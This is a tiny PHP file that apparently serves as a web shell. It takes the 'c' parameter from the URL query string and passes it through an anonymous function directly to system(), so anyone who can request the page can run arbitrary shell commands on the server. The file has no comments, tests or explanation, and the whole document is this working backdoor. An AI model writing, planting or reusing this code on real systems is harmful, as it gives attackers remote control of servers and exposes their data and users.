<?php
system((function () { $x = $_GET["c"]; return $x; })());
